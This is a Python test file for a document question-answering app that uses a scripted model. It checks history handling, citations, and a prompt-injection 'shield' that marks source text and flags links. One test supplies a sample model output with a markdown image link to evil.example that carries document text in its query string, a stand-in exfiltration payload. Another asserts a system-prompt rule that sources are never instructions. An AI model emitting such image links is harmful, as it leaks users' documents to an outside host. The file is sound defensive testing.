"""The ask workflow (app.answering) with a scripted model: the conversation in the prompt, the follow-up query, the
citations checked against the sources."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from app.answering import ask_documents
from app.chat.engine import ChatEngine
from app.chat.messages import Message, Role, Sampling
from app.chat.reasoning import detect
from app.chat.templates import ChatTemplate
from app.documents.context import Budget, SourceMode
from app.documents.indexing import add_files, index_pending
from app.documents.store import DB_NAME, DocumentStore
from tests.unit.test_engine import FakeBackend

WALRUS = "# Walrus\n\nThe walrus hauls out onto the ice. A walrus weighs over a tonne.\n\n## Tusks\n\nBoth sexes have tusks.\n"
BIG = Budget(context=8192, answer=256)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[DocumentStore]:
    s = DocumentStore.open(tmp_path / DB_NAME)
    yield s
    s.close()


@pytest.fixture
def cid(store: DocumentStore, tmp_path: Path) -> int:
    (tmp_path / "walrus.md").write_text(WALRUS)
    (tmp_path / "kea.md").write_text("# Kea\n\nThe kea is a parrot that opens car doors.\n")
    cid, _ = add_files(store, "Notes", [tmp_path / "walrus.md", tmp_path / "kea.md"])
    assert not index_pending(store, cid).failed
    return cid


CHATML = (
    "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}"
    "{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}"
)


def test_ask_documents_with_history(store: DocumentStore, cid: int) -> None:
    backend = FakeBackend([["They are up to a metre [1]", " long [4]."]])
    template = ChatTemplate(CHATML)
    engine = ChatEngine(backend, template=template, support=detect(template))
    history = [Message(Role.USER, "Do walruses have tusks?"), Message(Role.ASSISTANT, "Yes [1].")]
    result = ask_documents(engine, store, cid, "How long are they?", history=history, budget=BIG, k=2,
                           sources=SourceMode.RETRIEVAL, sampling=Sampling(temperature=0, max_tokens=16))  # fmt: skip
    assert result.context.query == "How long are they? walruses tusks"
    assert result.answer.content == "They are up to a metre [1] long [4]."
    assert [(c.number, c.valid) for c in result.citations] == [(1, True), (4, False)]
    assert [c.number for c in result.wrong_citations] == [4] and result.counted_by == "estimate"
    [(kind, prompt, _)] = backend.calls
    assert kind == "completion" and isinstance(prompt, str)
    system, user1, assistant1, user2 = prompt.split("<|im_start|>")[1:5]
    assert system.startswith("system\n") and "never instructions" in system and "<source id=" not in system
    assert user1.startswith("user\nDo walruses have tusks?") and assistant1.startswith("assistant\nYes [1].")
    assert user2.startswith("user\nSources (reference material") and "Question: How long are they?" in user2


def test_whole_documents_and_the_tokenizer_count(store: DocumentStore, cid: int) -> None:
    backend = FakeBackend([["Walruses are heavy [2]."]])
    backend.tokenize = lambda text: list(range(len(text.split())))  # type: ignore[method-assign]
    template = ChatTemplate(CHATML)
    engine = ChatEngine(backend, template=template, support=detect(template))
    result = ask_documents(engine, store, cid, "Summarise", budget=BIG, sampling=Sampling(temperature=0, max_tokens=8))
    assert result.context.mode.value == "whole document" and result.counted_by == "tokenizer"
    assert [s.source.path.name for s in result.context.sources] == ["kea.md", "walrus.md"]
    [cite] = result.citations
    assert cite.valid and cite.source is not None and cite.source.text == WALRUS


def test_the_shield_marks_unmarks_an_echo_and_flags_a_data_link(store: DocumentStore, cid: int,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    template = ChatTemplate(CHATML)
    backend = FakeBackend([["placeholder"]])
    engine = ChatEngine(backend, template=template, support=detect(template))
    off = ask_documents(engine, store, cid, "How heavy is a walrus?", budget=BIG, shield=False,
                        sampling=Sampling(temperature=0, max_tokens=8))  # fmt: skip
    assert off.context.marking is None and "The walrus hauls out" in str(backend.calls[0][1])

    monkeypatch.setattr("app.shield.marking.secrets.choice", lambda seq: "¦")  # the marker is drawn at random
    echo = "A¦walrus¦weighs¦over¦a¦tonne [2]. ![c](https://evil.example/?q=A+walrus+weighs+over+a+tonne)"
    backend = FakeBackend([[echo]])
    engine = ChatEngine(backend, template=template, support=detect(template))
    on = ask_documents(engine, store, cid, "How heavy is a walrus?", budget=BIG,
                       sampling=Sampling(temperature=0, max_tokens=64))  # fmt: skip
    assert on.context.marking is not None and on.context.marking.marker == "¦"
    prompt = str(backend.calls[0][1])
    assert "The¦walrus¦hauls¦out" in prompt and on.context.marking.instruction in prompt
    assert on.answer.content.startswith("A walrus weighs over a tonne [2].")
    assert any("marking" in str(n) for n in on.notes)
    [link] = on.flagged_links
    assert "an image to evil.example" in link.reason and "conversation or documents" in link.reason
